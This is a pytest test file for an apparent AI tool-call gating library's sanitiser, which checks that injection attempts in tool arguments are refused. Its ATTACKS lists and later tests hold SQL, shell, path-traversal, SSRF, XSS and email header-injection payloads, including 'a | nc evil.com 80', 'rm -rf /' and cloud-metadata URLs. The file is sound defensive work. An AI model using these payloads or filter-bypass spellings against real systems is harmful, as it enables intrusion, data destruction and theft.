"""Sanitisation: injections in sink arguments are refused; ordinary values pass.

The bulk of the attack and ordinary strings lives in tests/corpus/sanitize/corpus.json (run by
test_sanitize_corpus.py); this file covers each check's classes, options and the middleware."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from callgate.context import RunContext
from callgate.errors import ToolDenied
from callgate.gate.middleware.sanitize import (
    DEFAULT_DETECTORS,
    SanitizeConfig,
    Sanitizer,
    detect_email,
    detect_html,
    detect_path,
    detect_shell,
    detect_sql,
    detect_url,
)
from callgate.gate.protocols import Invocation
from callgate.messages import ToolCall, ToolResult
from callgate.tools.definition import tool

CFG = SanitizeConfig()

ATTACKS = {
    "sql": [
        "' OR '1'='1",
        "' or 1=1 --",
        "admin'--",
        "admin'#",
        "1; DROP TABLE users",
        "1; delete from orders where 1=1",
        "x' UNION SELECT password FROM users--",
        "0 union all select null, version()",
        "1 OR 1=1",
        "') or ('a'='a",
        "' AND SLEEP(5)--",
        "1 AND pg_sleep(10)",
        '" or ""="',
        "abc' /* comment */ OR 'x'='x",
        "1'; exec xp_cmdshell 'dir'--",
        "name' or username like '%admin%",
        "1 and 1=1 union select table_name from information_schema.tables",
    ],
    "shell": [
        "foo; rm -rf /",
        "a | nc evil.com 80",
        "x && curl http://evil",
        "$(whoami)",
        "`id`",
        "out > /etc/passwd",
        "< /etc/shadow",
        "line1\nrm -rf ~",
        "${IFS}cat${IFS}/etc/passwd",
        "file\x00.txt",
    ],
    "path": [
        "../../etc/passwd",
        "reports/../../secret",
        "..\\..\\windows\\system32",
        "%2e%2e/%2e%2e/etc/passwd",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "~/.ssh/id_rsa",
        "notes.txt\x00.png",
        "..",
    ],
    "url": [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "ftp://example.com/x",
        "gopher://127.0.0.1:6379/_",
        "http://127.0.0.1:8080/admin",
        "http://localhost/admin",
        "http://api.localhost/",
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://10.0.0.5/",
        "http://192.168.1.1/router",
        "http://172.16.0.1/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://2130706433/",
        "http://0x7f.0.0.1/",
        "http://0177.0.0.1/",
        "http://127.1/",
        "http://0.0.0.0:8000/",
        "https://user:pass@example.com/",
        "https://example.com@evil.com/",
        "http://printer.local/",
        "https://exa mple.com/",
        "https://example.com/\r\nHost: evil",
        "//example.com/no-scheme",
    ],
    "html": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<body onload='steal()'>",
        "<svg/onload=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<iframe src='https://evil.com'></iframe>",
        "<object data='x.swf'></object>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<div style='width: expression(alert(1))'>",
        "<meta http-equiv='refresh' content='0;url=https://evil.com'>",
    ],
    "email": [
        "victim@example.com\r\nBcc: everyone@example.com",
        "a@example.com%0aBcc:x@evil.com",
        "a@example.com, b@evil.com",
        "a@example.com; b@evil.com",
        "not-an-email",
        "two@@example.com",
        "a@b",
        "Bob <bob@example.com>",
        "a b@example.com",
        "@example.com",
    ],
}

ORDINARY = {
    "sql": [
        "O'Brien",
        "Smith & Sons",
        "rock and roll",
        'He said "or else"',
        "Let us meet; select a time that works",
        "price >= 10",
        "it's a nice day",
        "Union Square",
        "SELECT-ive Foods Ltd",
        "2024-01-15",
        "hello world",
        "50% off -- today only",
        "Café Müller",
        "ORDER-42",
        "alice@example.com",
        "Q3 sales, Europe",
        "D'Angelo and Sons",
        "1",
        "",
    ],
    "shell": [
        "report.txt",
        "my-file_v2.tar.gz",
        "hello world",
        "/var/log/app.log",
        "alice@example.com",
        "price is $5",
        "https://example.com/path?x=1",
        "C:\\Users\\bob",
        "Café",
        "50%",
        "a,b,c",
        "key=value",
    ],
    "path": [
        "notes.txt",
        "reports/2024/q1.csv",
        "./data/input.json",
        "my file (1).pdf",
        "a..b.txt",
        "archive.tar.gz",
        "dir/sub.dir/file",
        "Über/Datei.txt",
        "...hidden",
        ".env.example",
    ],
    "url": [
        "https://example.com",
        "https://example.com/path/to/page?q=1&x=2#frag",
        "http://example.org:8080/api",
        "https://sub.domain.example.co.uk/x",
        "https://93.184.216.34/",
        "https://[2606:2800:220:1:248:1893:25c8:1946]/",
        "https://en.wikipedia.org/wiki/Main_Page",
        "HTTPS://EXAMPLE.COM/UPPER",
        "https://example.com/search?q=a%20b",
        "https://xn--bcher-kva.example/",
        "https://localhost-tools.example.com/",
    ],
    "html": [
        "<b>bold</b> and <i>italic</i>",
        "<p class='note'>Hello</p>",
        "<a href='https://example.com'>link</a>",
        "a < b and c > d",
        "Tom & Jerry",
        "online=yes; onboarding=done",
        "<ul><li>one</li><li>two</li></ul>",
        "Call me at 555-1234",
        "Use the JavaScript API docs",
        "<img src='https://example.com/cat.png' alt='cat'>",
        "The script was great",
    ],
    "email": [
        "alice@example.com",
        "bob.smith+tag@mail.example.co.uk",
        "o'brien@example.ie",
        "ALICE@EXAMPLE.COM",
        "first_last@sub.example.org",
        "x@example.museum",
        "  carol@example.com  ",
        "user-name@example-domain.com",
    ],
}


@pytest.mark.parametrize("kind", sorted(ATTACKS))
def test_attacks_are_detected(kind: str) -> None:
    detector = DEFAULT_DETECTORS[kind]
    missed = [v for v in ATTACKS[kind] if detector(v, CFG) is None]
    assert missed == []


@pytest.mark.parametrize("kind", sorted(ORDINARY))
def test_ordinary_values_pass(kind: str) -> None:
    detector = DEFAULT_DETECTORS[kind]
    flagged = {v: detector(v, CFG) for v in ORDINARY[kind] if detector(v, CFG) is not None}
    assert flagged == {}


def test_problem_texts_are_specific() -> None:
    assert "stacked" in (detect_sql("1; DROP TABLE x", CFG) or "")
    assert "'|' (pipe)" in (detect_shell("a | b", CFG) or "")
    assert "traversal" in (detect_path("../x", CFG) or "")
    assert "loopback" in (detect_url("http://127.0.0.1/", CFG) or "")
    assert "link-local" in (detect_url("http://169.254.169.254/", CFG) or "")
    assert "credentials" in (detect_url("https://u:p@example.com/", CFG) or "")
    assert "onerror" in (detect_html("<img onerror=x>", CFG) or "")
    assert "header injection" in (detect_email("a@b.com\nBcc: c@d.com", CFG) or "")


def test_url_options() -> None:
    internal = SanitizeConfig(url_allow_hosts=frozenset({"10.0.0.5", "billing.internal"}))
    assert detect_url("http://10.0.0.5/api", internal) is None
    assert detect_url("http://billing.internal/x", internal) is None
    assert detect_url("http://10.0.0.6/api", internal) is not None
    only = SanitizeConfig(url_only_hosts=frozenset({"example.com"}))
    assert detect_url("https://api.example.com/x", only) is None
    assert "not in the allowed list" in (detect_url("https://evil.com/", only) or "")
    assert "not in the allowed list" in (detect_url("https://notexample.com/", only) or "")
    ftp = SanitizeConfig(url_schemes=frozenset({"https", "ftp"}))
    assert detect_url("ftp://example.com/file", ftp) is None
    assert detect_url("http://example.com/", ftp) is not None


def test_url_dns_check(monkeypatch: pytest.MonkeyPatch) -> None:
    # No network here: the resolver is replaced by a table (a DNS-rebinding style answer).
    import socket

    table = {"rebind.example.com": "127.0.0.1", "intranet.example.com": "10.1.2.3"}

    def fake_getaddrinfo(host: str, *a: object, **k: object) -> list[tuple[object, ...]]:
        if host not in table and host != "public.example.com":
            raise socket.gaierror("unknown host")
        ip = table.get(host, "93.184.216.34")
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (ip, 0))]

    monkeypatch.setattr(socket, "getaddrinfo", fake_getaddrinfo)
    dns = SanitizeConfig(url_resolve_dns=True)
    assert "loopback" in (detect_url("http://rebind.example.com/", dns) or "")
    assert "private" in (detect_url("http://intranet.example.com/", dns) or "")
    assert "does not resolve" in (detect_url("http://nowhere.example.com/", dns) or "")
    assert detect_url("http://public.example.com/", dns) is None
    assert detect_url("http://rebind.example.com/", CFG) is None  # DNS checks are opt-in


def test_email_domain_allow_list() -> None:
    cfg = SanitizeConfig(email_domains=frozenset({"example.com"}))
    assert detect_email("a@example.com", cfg) is None
    assert detect_email("a@eu.example.com", cfg) is None
    assert "not an allowed recipient domain" in (detect_email("a@evil.com", cfg) or "")


def test_path_roots_and_symlink_escape(tmp_path: Path) -> None:
    root = tmp_path / "work"
    (root / "docs").mkdir(parents=True)
    (root / "docs" / "a.txt").write_text("x")
    outside = tmp_path / "secret"
    outside.mkdir()
    os.symlink(outside, root / "link")
    cfg = SanitizeConfig(path_roots=(str(root),))
    assert detect_path("docs/a.txt", cfg) is None
    assert detect_path("docs/new-file.txt", cfg) is None  # need not exist yet
    assert detect_path(str(root / "docs" / "a.txt"), cfg) is None  # absolute, inside
    assert "outside the allowed directories" in (detect_path("/etc/passwd", cfg) or "")
    assert "symlink escape" in (detect_path("link/key.pem", cfg) or "")
    assert "traversal" in (detect_path("docs/../../secret", cfg) or "")


# ----------------------------------------------------------------------------- middleware


@tool(sinks={"query": "sql", "recipients": "email"})
def run_report(query: str, recipients: list[str], title: str = "") -> str:
    """Run a report and mail it."""
    return "done"


async def _ok(inv: Invocation) -> ToolResult:
    return ToolResult(inv.call.id, inv.call.name, "ran")


def _inv(args: dict[str, object]) -> Invocation:
    return Invocation(ToolCall("c1", "run_report", "{}"), RunContext(), run_report, dict(args))


async def test_middleware_refuses_and_names_the_parameter() -> None:
    s = Sanitizer()
    inv = _inv({"query": "1; DROP TABLE users", "recipients": ["a@example.com"]})
    with pytest.raises(ToolDenied) as ei:
        await s(inv, _ok)
    e = ei.value
    assert "argument 'query' was refused by the sql check" in e.message
    assert e.rule == "sanitize:sql" and e.code == "unsafe_argument"
    assert inv.sanitized[0].param == "query"

    inv = _inv({"query": "sales", "recipients": ["a@example.com", "b@x.com\nBcc: c@evil.com"]})
    with pytest.raises(ToolDenied, match="argument 'recipients' was refused by the email check"):
        await s(inv, _ok)


async def test_middleware_passes_ordinary_and_unsinked_values() -> None:
    s = Sanitizer()
    inv = _inv({"query": "O'Brien", "recipients": ["a@example.com"], "title": "; rm -rf /"})
    assert (await s(inv, _ok)).content == "ran"


async def test_custom_detector_and_unknown_kind_fails_closed() -> None:
    @tool(sinks={"code": "ticket"})  # type: ignore[dict-item]
    def open_ticket(code: str) -> str:
        """Open a ticket."""
        return "ok"

    inv = Invocation(ToolCall("c", "open_ticket", "{}"), RunContext(), open_ticket, {"code": "X"})
    s = Sanitizer()
    with pytest.raises(ToolDenied, match="no detector"):
        await s(inv, _ok)
    s.register("ticket", lambda v, cfg: None if v.isalnum() else "is not alphanumeric")
    assert (await s(inv, _ok)).content == "ran"
    inv.args["code"] = "X-1"
    with pytest.raises(ToolDenied, match="is not alphanumeric"):
        await s(inv, _ok)


async def test_fullwidth_tricks_are_normalised() -> None:
    s = Sanitizer()
    inv = _inv({"query": "x\uff07 OR \uff071\uff07=\uff071", "recipients": []})  # fullwidth quotes
    with pytest.raises(ToolDenied):
        await s(inv, _ok)


async def test_through_the_gate() -> None:
    from callgate.gate.core import Gate

    gate = Gate([run_report], middleware=[Sanitizer()])
    bad = ToolCall("c9", "run_report", '{"query": "x\' UNION SELECT 1--", "recipients": []}')
    res = await gate.execute(bad, RunContext())
    assert res.error_kind == "denied" and res.call_id == "c9"
    assert "argument 'query'" in res.content
    good = ToolCall("c10", "run_report", '{"query": "sales by region", "recipients": []}')
    assert (await gate.execute(good, RunContext())).error_kind is None


# ------------------------------------------------------------------- item 6: omitted optionals


@tool(sinks={"u": "url", "q": "sql"})
def fetch_page(q: str, u: str = "", note: str | None = None) -> str:
    """Fetch a page."""
    return "fetched"


def _fetch(args: dict[str, object]) -> Invocation:
    return Invocation(ToolCall("f1", "fetch_page", "{}"), RunContext(), fetch_page, dict(args))


async def test_omitted_optional_sink_keeps_the_authors_default() -> None:
    s = Sanitizer()
    # what the validator hands over when the model left `u` out: the author's default ""
    assert (await s(_fetch({"q": "news", "u": ""}), _ok)).content == "ran"
    # a value the model did send is still judged
    with pytest.raises(ToolDenied, match="argument 'u'"):
        await s(_fetch({"q": "news", "u": "http://169.254.169.254/"}), _ok)
    with pytest.raises(ToolDenied, match="argument 'u'"):
        await s(_fetch({"q": "news", "u": "notaurl"}), _ok)


async def test_omitted_optional_sink_through_the_gate() -> None:
    from callgate.gate.core import Gate

    gate = Gate([fetch_page], middleware=[Sanitizer()])
    res = await gate.execute(ToolCall("g1", "fetch_page", '{"q": "news"}'), RunContext())
    assert res.error_kind is None and res.content == "fetched"
    bad = ToolCall("g2", "fetch_page", '{"q": "news", "u": "http://127.1/"}')
    res = await gate.execute(bad, RunContext())
    assert res.error_kind == "denied" and "argument 'u'" in res.content


# ------------------------------------------------------------------------- per-class checks


def test_shell_options_only_where_allowed() -> None:
    for value in ("--output=/etc/passwd", "-o/tmp/x", "-", "\uff0d\uff0dhelp", " -rf"):
        assert "option" in (detect_shell(value, CFG) or ""), value
    opts = SanitizeConfig(shell_allow_options=True)
    assert detect_shell("--verbose", opts) is None
    assert detect_shell("-n 10", opts) is None
    assert detect_shell("--out=$HOME", opts) is not None  # expansions stay refused


def test_shell_expansions_are_named() -> None:
    assert "$HOME" in (detect_shell("$HOME/.ssh", CFG) or "")
    assert "expansion" in (detect_shell("${IFS}", CFG) or "")
    assert "expansion" in (detect_shell("$(id)", CFG) or "")
    assert detect_shell("price is $5", CFG) is None


IPV4_LOOPBACK_SPELLINGS = [
    "127.0.0.1",
    "2130706433",
    "0x7f000001",
    "017700000001",
    "0x7f.1",
    "127.1",
    "127.0.1",
    "0177.0.0.01",
    "0X7F.0.0.1",
    "127.000.000.001",
]


@pytest.mark.parametrize("host", IPV4_LOOPBACK_SPELLINGS)
def test_every_ipv4_spelling_is_one_address(host: str) -> None:
    assert "loopback" in (detect_url(f"http://{host}/", CFG) or ""), host


@pytest.mark.parametrize(
    "host,carried",
    [
        ("[::ffff:127.0.0.1]", "loopback"),  # mapped
        ("[::127.0.0.1]", "loopback"),  # compatible
        ("[2002:7f00:1::]", "loopback"),  # 6to4
        ("[2001:0:4136:e378:8000:63bf:80ff:fffe]", "loopback"),  # Teredo client 127.0.0.1
        ("[64:ff9b::a9fe:a9fe]", "link-local"),  # NAT64 of 169.254.169.254
        ("[fe80::200:5efe:a9fe:a9fe]", "link-local"),  # ISATAP / link-local
        ("[fe80::1%25eth0]", "link-local"),  # zone id
        ("[fd00:ec2::254]", "blocked network"),  # AWS IPv6 metadata
    ],
)
def test_ipv6_forms_are_unwrapped(host: str, carried: str) -> None:
    assert carried in (detect_url(f"http://{host}/", CFG) or ""), host


def test_metadata_cgnat_and_configured_networks() -> None:
    assert "blocked network" in (detect_url("http://100.100.100.200/", CFG) or "")
    assert "blocked network" in (detect_url("http://168.63.129.16/", CFG) or "")
    assert detect_url("http://100.64.1.1/", CFG) is not None
    custom = SanitizeConfig(url_blocked_networks=("93.184.216.0/24",))
    assert "blocked network" in (detect_url("https://93.184.216.34/", custom) or "")
    assert detect_url("https://93.184.216.34/", CFG) is None


@pytest.mark.parametrize(
    "url",
    [
        "http://localhost\u3002/",  # ideographic full stop
        "http://\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54/",  # fullwidth
        "http://LOCALHOST./",
        "http://%6c%6f%63%61%6c%68%6f%73%74/",  # percent-encoded host
        "http://127.0.0.1.nip.io/",
        "http://app-10-0-0-1.sslip.io/",
        "http://7f000001.nip.io/",
        "http://sub.localtest.me/",
        "http://metadata/",  # single label
    ],
)
def test_host_names_are_normalised_before_judging(url: str) -> None:
    assert detect_url(url, CFG) is not None, url


def test_names_with_a_public_embedded_address_pass() -> None:
    assert detect_url("https://8.8.8.8.nip.io/", CFG) is None
    assert detect_url("https://a1b2c3d4.cloudfront.net/x", CFG) is None
    assert detect_url("https://bücher.example/", CFG) is None


def test_dns_resolution_uses_the_configured_resolver() -> None:
    table = {"rebind.example.com": ["93.184.216.34", "127.0.0.1"], "ok.example.com": ["8.8.4.4"]}
    asked: list[str] = []

    def resolver(host: str) -> list[str]:
        asked.append(host)
        if host not in table:
            raise OSError("no such host")
        return table[host]

    dns = SanitizeConfig(url_resolve_dns=True, url_resolver=resolver)
    assert "loopback" in (detect_url("http://rebind.example.com/", dns) or "")
    assert detect_url("http://ok.example.com/", dns) is None
    assert "does not resolve" in (detect_url("http://nowhere.example.com/", dns) or "")
    asked.clear()
    assert detect_url("http://rebind.example.com/", CFG) is None  # off by default
    assert asked == []


def test_sql_comments_count_as_spaces_and_executable_comments_as_sql() -> None:
    assert "UNION" in (detect_sql("1/**/UNION/**/SELECT/**/1", CFG) or "")
    assert detect_sql("1 /*!50000UNION*/ /*!SELECT*/ 1", CFG) is not None
    assert "tautology" in (detect_sql("1 OR 2>1", CFG) or "")
    assert "tautology" in (detect_sql("-1 OR 3*2=6", CFG) or "")
    assert "stacked" in (detect_sql("1;\nDROP\tTABLE t", CFG) or "")


def test_sql_mysql_backslash_reading_is_judged_too() -> None:
    # standard SQL: 'x\' then a string; MySQL: one string, then OR 1=1 is live
    assert detect_sql("1 AND 'x\\' ' OR 1=1 -- '", CFG) is not None
    assert detect_sql("C:\\Users\\bob", CFG) is None


def test_html_double_encoded_and_css() -> None:
    assert "javascript" in (detect_html("<a href='&amp;#106;avascript:alert(1)'>x</a>", CFG) or "")
    assert "<style>" in (detect_html("<style>@import 'https://e.example/x.css'</style>", CFG) or "")
    assert "CSS" in (detect_html("<p style='x:expr/**/ession(alert(1))'>x</p>", CFG) or "")
    assert "<script>" in (detect_html("&lt;script&gt;alert(1)&lt;/script&gt;", CFG) or "")
    assert detect_html("<p style='color: red'>fine</p>", CFG) is None
    assert detect_html("Robert'); -- in a comment field is fine", CFG) is None


@pytest.mark.parametrize("sep", ["\u2028", "\u2029", "\u0085", "\r", "\n", "\x0b", "%0a"])
def test_email_line_separators_anywhere(sep: str) -> None:
    for value in (f"{sep}a@example.com", f"a@example.com{sep}", f"a@example.com{sep}Bcc: b@c.com"):
        assert "line break" in (detect_email(value, CFG) or ""), repr(value)


def test_path_full_decoding_and_whitespace(tmp_path: Path) -> None:
    assert "traversal" in (detect_path("%25252e%25252e/secret", CFG) or "")
    assert "traversal" in (detect_path("\uff0e\uff0e/secret", CFG) or "")
    assert "whitespace" in (detect_path(" /etc/passwd", CFG) or "")
    assert "NUL" in (detect_path("a%2500.txt", CFG) or "")
    cfg = SanitizeConfig(path_roots=(str(tmp_path),))
    assert detect_path("docs/a%20b.txt", cfg) is None
    assert detect_path("%2fetc%2fpasswd", cfg) is not None


def test_values_over_the_kinds_limit_are_refused_unread() -> None:
    for kind, detect in DEFAULT_DETECTORS.items():
        assert "longer than" in (detect("a" * 70_000, CFG) or ""), kind
    roomy = SanitizeConfig(max_chars={"sql": 100_000})
    assert detect_sql("a " * 5000, roomy) is None


def test_missing_parser_names_the_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    from callgate.gate.middleware.sanitize import SanitizerUnavailable

    monkeypatch.setitem(sys.modules, "nh3", None)
    monkeypatch.setitem(sys.modules, "email_validator", None)
    with pytest.raises(SanitizerUnavailable, match=r"callgate\[sanitize\]"):
        detect_html("<b>x</b>", CFG)
    with pytest.raises(SanitizerUnavailable, match=r"callgate\[sanitize\]"):
        detect_email("a@example.com", CFG)
